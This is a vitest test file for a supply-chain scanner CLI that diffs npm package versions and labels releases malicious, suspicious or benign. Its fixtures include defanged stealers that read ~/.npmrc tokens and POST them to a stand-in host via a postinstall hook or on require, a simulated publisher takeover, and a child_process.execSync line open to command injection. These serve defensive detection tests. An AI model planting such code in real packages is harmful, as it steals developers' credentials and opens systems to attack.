import { createHash } from 'node:crypto';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeTgz, type TestEntry } from '../../src/tarball/testdata/make-tarball.js';
import { makeHome, runCli, runCliAsync } from './run-cli.js';

const home = makeHome();
const INDEX = 'module.exports = (a, b) => a + b;\n';
const TELEMETRY = [
  "const fs = require('fs');",
  "const os = require('os');",
  "const path = require('path');",
  "const https = require('https');",
  "const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');",
  "const req = https.request('https://collector.invalid/t', { method: 'POST' });",
  'req.end(token);',
].join('\n');

const pkg = (version: string, extra: Record<string, unknown> = {}): TestEntry => ({
  name: 'package/package.json',
  content: JSON.stringify({ name: 'adder-fixture', version, main: 'index.js', ...extra }),
});

const clean = join(home, 'adder-fixture-1.0.0.tgz');
const turned = join(home, 'adder-fixture-1.0.1.tgz');
const refactorDir = join(home, 'adder-fixture-1.1.0');

beforeAll(async () => {
  writeFileSync(clean, await makeTgz([pkg('1.0.0'), { name: 'package/index.js', content: INDEX }]));
  writeFileSync(
    turned,
    await makeTgz([
      pkg('1.0.1', { scripts: { postinstall: 'node telemetry.js' } }),
      { name: 'package/index.js', content: INDEX },
      { name: 'package/telemetry.js', content: TELEMETRY },
    ]),
  );
  mkdirSync(join(refactorDir, 'lib'), { recursive: true });
  writeFileSync(
    join(refactorDir, 'package.json'),
    JSON.stringify({ name: 'adder-fixture', version: '1.1.0' }),
  );
  writeFileSync(join(refactorDir, 'index.js'), "module.exports = require('./lib/add.js');\n");
  writeFileSync(join(refactorDir, 'lib/add.js'), 'module.exports = function add(a, b) { return a + b; };\n');
});

describe('bulwark diff (bundled CLI)', () => {
  it('calls the xmlrpc-style turn malicious in JSON, with the findings that drove it, and exits 1', () => {
    const run = runCli(['diff', clean, turned, '--format', 'json'], { home });
    expect(run.stderr).toBe('');
    expect(run.status).toBe(1);
    const report = JSON.parse(run.stdout);
    expect(report.verdict).toBe('malicious');
    expect(report.added).toEqual(expect.arrayContaining(['install-scripts', 'network']));
    expect(report.removed).toEqual([]);
    expect(report.hosts).toContain('collector.invalid');
    expect(report.installScripts).toEqual([
      { script: 'postinstall', to: 'node telemetry.js', runsFiles: ['telemetry.js'] },
    ]);
    expect(report.anomaly).toMatchObject({ unusual: true, reasons: expect.any(Array) });
    expect(report.anomaly.reasons.length).toBeGreaterThan(0);
    expect(report.anomaly.summary).toMatch(/^unusual release: /);
    expect(report.findings.length).toBeGreaterThan(0);
    for (const finding of report.findings) {
      expect(finding).toMatchObject({ rule: expect.any(String), severity: expect.any(String) });
      expect(['telemetry.js', 'package.json', null]).toContain(finding.file);
    }
  });

  it('prints the transition verdict first in the table report', () => {
    const run = runCli(['diff', clean, turned], { home });
    expect(run.status).toBe(1);
    const lines = run.stdout.split('\n');
    expect(lines[0]).toBe('adder-fixture@1.0.0 → adder-fixture@1.0.1: MALICIOUS');
    expect(run.stdout).toContain('  + postinstall: node telemetry.js');
  });

  it('calls a refactor (tarball → directory) benign and exits 0, even with --fail-on suspicious', () => {
    const run = runCli(['diff', clean, refactorDir, '-f', 'json', '--fail-on', 'suspicious'], { home });
    expect(run.stderr).toBe('');
    expect(run.status).toBe(0);
    const report = JSON.parse(run.stdout);
    expect(report).toMatchObject({ verdict: 'benign', findings: [], reasons: [] });
    expect(report.files).toEqual({
      added: ['lib/add.js'],
      removed: [],
      changed: ['index.js', 'package.json'],
    });
  });

  it('exits 0 on a malicious turn with --fail-on never', () => {
    expect(runCli(['diff', clean, turned, '--fail-on', 'never'], { home }).status).toBe(0);
  });

  it('answers bad input with one line and exit code 2', () => {
    const cases = [
      ['diff', clean, './missing.tgz'],
      ['diff', clean, turned, '--fail-on', 'sometimes'],
      ['diff', clean, turned, '--format', 'sarif'],
      ['diff', 'left-pad@1.0.0', '1.0.0', '1.1.0'],
      ['diff', 'left-pad', '1.0.0', 'a/b'],
      ['diff', clean, '1.0.0', '1.0.1'],
      ['diff', clean],
      ['diff', 'adder-fixture', '1.0.0', '1.0.1', '--offline'],
    ];
    for (const args of cases) {
      const run = runCli(args, { home });
      expect(run.status, args.join(' ')).toBe(2);
      expect(run.stderr.split('\n').filter(Boolean), args.join(' ')).toHaveLength(1);
      expect(run.stderr).toMatch(/^bulwark: /);
    }
  });
});

describe('bulwark diff <name> <from> <to> (loopback registry)', () => {
  let server: Server;
  let registry = '';

  beforeAll(async () => {
    const tarballs = new Map([
      ['1.0.0', readFileSync(clean)],
      ['1.0.1', readFileSync(turned)],
    ]);
    server = createServer((req, res) => {
      const match = /^\/adder-fixture\/-\/adder-fixture-(.+)\.tgz$/.exec(req.url ?? '');
      const tarball = match ? tarballs.get(match[1] ?? '') : undefined;
      if (tarball) {
        res.writeHead(200).end(tarball);
        return;
      }
      if (req.url !== '/adder-fixture') {
        res.writeHead(404).end('{}');
        return;
      }
      const versions = Object.fromEntries(
        [...tarballs].map(([version, bytes]) => [
          version,
          {
            name: 'adder-fixture',
            version,
            // A takeover: 1.0.1 is published by a new account, without 1.0.0's provenance.
            _npmUser: { name: version === '1.0.0' ? 'alice' : 'mallory' },
            dist: {
              tarball: `${registry}adder-fixture/-/adder-fixture-${version}.tgz`,
              integrity: `sha512-${createHash('sha512').update(bytes).digest('base64')}`,
              ...(version === '1.0.0' ? { attestations: { provenance: { predicateType: 'slsa' } } } : {}),
            },
          },
        ]),
      );
      const doc = { name: 'adder-fixture', 'dist-tags': { latest: '1.0.1' }, versions };
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(doc));
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    registry = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  });

  afterAll(async () => {
    await new Promise<void>((resolve) => server.close(() => resolve()));
  });

  it('fetches both versions, calls the turn malicious and reports the takeover in the metadata', async () => {
    const run = await runCliAsync(
      ['diff', 'adder-fixture', '1.0.0', '1.0.1', '--registry', registry, '-f', 'json'],
      { home, cwd: home },
    );
    expect(run.stderr).toBe('');
    expect(run.status).toBe(1);
    const report = JSON.parse(run.stdout);
    expect(report.verdict).toBe('malicious');
    expect(report.from).toMatchObject({
      name: 'adder-fixture',
      version: '1.0.0',
      integrity: expect.stringMatching(/^sha512-/),
    });
    expect(report.to).toMatchObject({ version: '1.0.1', verdict: 'malicious' });
    expect(report.metadata).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ kind: 'publisher-change', severity: 'high' }),
        expect.objectContaining({ kind: 'trust-downgrade', severity: 'high' }),
      ]),
    );
  });
});

/** A defanged credential stealer that runs on require, as flatmap-stream's payload did. */
const STEALER = [
  "const fs = require('fs');",
  "const os = require('os');",
  "const path = require('path');",
  "const https = require('https');",
  'module.exports = function flatMap(stream) { return stream; };',
  "const token = fs.readFileSync(path.join(os.homedir(), '.npmrc'), 'utf8');",
  "const req = https.request('https://collector.invalid/t', { method: 'POST' });",
  'req.end(token);',
].join('\n');
const STREAM_INDEX = 'exports.map = (fn) => fn;\nexports.through = (fn) => fn;\n';

type Release = { version: string; time: string; entries: TestEntry[] };

/** A loopback registry serving full documents (times, versions) and their tarballs. */
const serveRegistry = async (packages: Record<string, Release[]>) => {
  const tarballs = new Map<string, Buffer>();
  for (const [name, releases] of Object.entries(packages))
    for (const r of releases) tarballs.set(`/${name}/-/${name}-${r.version}.tgz`, await makeTgz(r.entries));
  let url = '';
  const server = createServer((req, res) => {
    const tarball = tarballs.get(req.url ?? '');
    if (tarball) {
      res.writeHead(200).end(tarball);
      return;
    }
    const name = (req.url ?? '').slice(1);
    const releases = packages[name];
    if (!releases) {
      res.writeHead(404).end('{}');
      return;
    }
    const doc = {
      name,
      'dist-tags': { latest: releases[releases.length - 1]!.version },
      versions: Object.fromEntries(
        releases.map((r) => {
          const bytes = tarballs.get(`/${name}/-/${name}-${r.version}.tgz`)!;
          const dist = {
            tarball: `${url}${name}/-/${name}-${r.version}.tgz`,
            integrity: `sha512-${createHash('sha512').update(bytes).digest('base64')}`,
          };
          const manifest = r.entries.find((e) => e.name === 'package/package.json')?.content;
          return [r.version, { ...JSON.parse(String(manifest ?? '{}')), name, version: r.version, dist }];
        }),
      ),
      time: { created: releases[0]!.time, ...Object.fromEntries(releases.map((r) => [r.version, r.time])) },
    };
    res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(doc));
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
  return { url, close: () => new Promise<void>((resolve) => server.close(() => resolve())) };
};

describe('bulwark diff: new dependencies and removed exports', () => {
  let registry: { url: string; close: () => Promise<void> };
  const streamPkg = (version: string, extra: Record<string, unknown> = {}): TestEntry => ({
    name: 'package/package.json',
    content: JSON.stringify({ name: 'stream-fixture', version, main: 'index.js', ...extra }),
  });

  beforeAll(async () => {
    registry = await serveRegistry({
      'stream-fixture': [
        {
          version: '3.3.5',
          time: '2025-02-01T10:00:00.000Z',
          entries: [streamPkg('3.3.5'), { name: 'package/index.js', content: STREAM_INDEX }],
        },
        {
          version: '3.3.6',
          time: '2026-11-20T12:00:00.000Z',
          entries: [
            streamPkg('3.3.6', { dependencies: { 'flatmap-fixture': '^0.1.0' } }),
            { name: 'package/index.js', content: STREAM_INDEX },
          ],
        },
      ],
      // Published the day before the release that pulls it in.
      'flatmap-fixture': [
        {
          version: '0.1.1',
          time: '2026-11-19T09:00:00.000Z',
          entries: [
            {
              name: 'package/package.json',
              content: JSON.stringify({ name: 'flatmap-fixture', version: '0.1.1', main: 'index.js' }),
            },
            { name: 'package/index.js', content: STEALER },
          ],
        },
      ],
    });
  });

  afterAll(async () => {
    await registry.close();
  });

  it('calls a clean release that adds a malicious day-old dependency malicious (event-stream)', async () => {
    const run = await runCliAsync(
      ['diff', 'stream-fixture', '3.3.5', '3.3.6', '--registry', registry.url, '-f', 'json'],
      { home, cwd: home },
    );
    expect(run.stderr).toBe('');
    expect(run.status).toBe(1);
    const report = JSON.parse(run.stdout);
    expect(report.verdict).toBe('malicious');
    // Its own code is clean: the verdict comes from the dependency alone.
    expect(report.to).toMatchObject({ version: '3.3.6', verdict: expect.not.stringMatching('malicious') });
    expect(report.reasons[0]).toMatch(/^new dependency flatmap-fixture@0\.1\.1 is malicious/);
    expect(report.dependencies.lookup).toEqual({ status: 'checked' });
    expect(report.dependencies.added).toEqual([
      expect.objectContaining({
        name: 'flatmap-fixture',
        to: '^0.1.0',
        registry: expect.objectContaining({
          created: '2026-11-19T09:00:00.000Z',
          versions: 1,
          resolved: '0.1.1',
          brandNew: true,
          littleUsed: true,
          verdict: 'malicious',
          signals: expect.arrayContaining(['first published 1 day before this release']),
        }),
      }),
    ]);
    // A patch adding a dependency the code never imports is itself a (metadata) finding.
    expect(report.findings.map((f: { rule: string }) => f.rule)).toEqual(['metadata-patch-new-dependency']);
  });

  it('shows the new dependency in the table report', async () => {
    const run = await runCliAsync(['diff', 'stream-fixture', '3.3.5', '3.3.6', '--registry', registry.url], {
      home,
      cwd: home,
    });
    expect(run.status).toBe(1);
    expect(run.stdout.split('\n')[0]).toBe('stream-fixture@3.3.5 → stream-fixture@3.3.6: MALICIOUS');
    expect(run.stdout).toMatch(
      /\n {2}\+ flatmap-fixture \^0\.1\.0 \(dependencies\): → 0\.1\.1, MALICIOUS, brand new/,
    );
  });

  it('calls a patch release that removes its main entry suspicious (faker-style), lookups skipped once', () => {
    const dir = join(home, 'sabotage');
    mkdirSync(dir, { recursive: true });
    const before = join(dir, 'before.tgz');
    const after = join(dir, 'after.tgz');
    const manifest = (version: string, extra: Record<string, unknown> = {}) => ({
      name: 'package/package.json',
      content: JSON.stringify({
        name: 'sabotage-fixture',
        version,
        main: 'index.js',
        bin: { sab: 'cli.js' },
        ...extra,
      }),
    });
    return Promise.all([
      makeTgz([
        manifest('6.6.5'),
        { name: 'package/index.js', content: 'exports.name = () => "x";\nexports.address = () => "y";\n' },
        { name: 'package/cli.js', content: "console.log(require('./index.js').name());\n" },
      ]),
      makeTgz([
        manifest('6.6.6', { bin: undefined, dependencies: { 'left-pad': '1.3.0' } }),
        { name: 'package/README.md', content: 'What really happened with Aaron Swartz?\n' },
      ]),
    ]).then(([a, b]) => {
      writeFileSync(before, a);
      writeFileSync(after, b);
      const run = runCli(['diff', before, after, '-f', 'json', '--fail-on', 'suspicious'], { home });
      expect(run.stderr).toBe('');
      expect(run.status).toBe(1);
      const report = JSON.parse(run.stdout);
      expect(report.verdict).toBe('suspicious');
      expect(report.exportsRemoved).toEqual({
        subpaths: [],
        bins: ['sab'],
        names: [],
        mainRemoved: true,
        mainEmptied: false,
        breaking: false,
      });
      expect(report.reasons).toContain(
        'a compatible (non-major) release removes its main entry: sabotage or a broken publish',
      );
      expect(report.dependencies.lookup).toEqual({
        status: 'skipped',
        reason: 'both sides are local files (give --registry to look them up)',
      });
      const table = runCli(['diff', before, after], { home });
      expect(table.stdout.match(/not looked up/g)).toHaveLength(1);
      expect(table.stdout).toContain(
        'exports removed:\n  main entry: no longer resolves to a file\n  bin sab\n',
      );
    });
  });

  it('shows the risky hunk of a changed file', () => {
    const dir = join(home, 'hunks');
    mkdirSync(dir, { recursive: true });
    const lines = Array.from({ length: 20 }, (_, i) => `exports.f${i} = (a) => a + ${i};`);
    const changed = [...lines];
    changed[12] = "exports.f12 = (a) => require('child_process').execSync('echo ' + a).toString();";
    const [before, after] = [join(dir, 'a.tgz'), join(dir, 'b.tgz')];
    return Promise.all(
      [lines, changed].map((l, i) =>
        makeTgz([pkg(`1.0.${i}`), { name: 'package/index.js', content: `${l.join('\n')}\n` }]),
      ),
    ).then(([a, b]) => {
      writeFileSync(before, a!);
      writeFileSync(after, b!);
      const report = JSON.parse(runCli(['diff', before, after, '-f', 'json'], { home }).stdout);
      expect(report.hunks).toEqual([
        expect.objectContaining({
          file: 'index.js',
          fromLine: 10,
          toLine: 16,
          lines: expect.arrayContaining([`-${lines[12]}`, `+${changed[12]}`]),
          reasons: expect.arrayContaining([expect.stringMatching(/^child process: /)]),
        }),
      ]);
      const table = runCli(['diff', before, after], { home }).stdout;
      expect(table).toContain('risky hunks:\n  index.js:10-16  ');
      expect(table).toContain(`    + ${changed[12]}\n`);
    });
  });
});
